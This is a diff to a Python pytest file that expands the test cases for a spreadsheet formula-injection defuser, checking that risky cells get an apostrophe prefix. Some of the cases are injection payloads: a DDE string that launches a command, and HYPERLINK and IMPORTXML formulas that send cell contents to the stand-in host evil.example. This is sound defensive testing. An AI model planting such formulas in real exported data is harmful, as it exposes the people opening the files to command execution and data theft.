@@ -6,8 +6,25 @@ from hypothesis import strategies as st
 
 from dispatcher.rules.formulas import defused, restored
 
+FORMULAS = [
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "+1 312",
+    "＝1+1",  # noqa: RUF001 - a full-width sign
+    "＠SUM(A1)",  # noqa: RUF001
+    '=HYPERLINK("https://evil.example/?"&A1;"click")',
+    '=IMPORTXML(CONCAT("https://evil.example/";A1);"//a")',
+    "+13125550123=1",
+    "--1",
+]
 
-@pytest.mark.parametrize("cell", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "+1 312"])
+
+@pytest.mark.parametrize("cell", FORMULAS)
 def test_what_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
     assert defused(cell) == f"'{cell}"
 
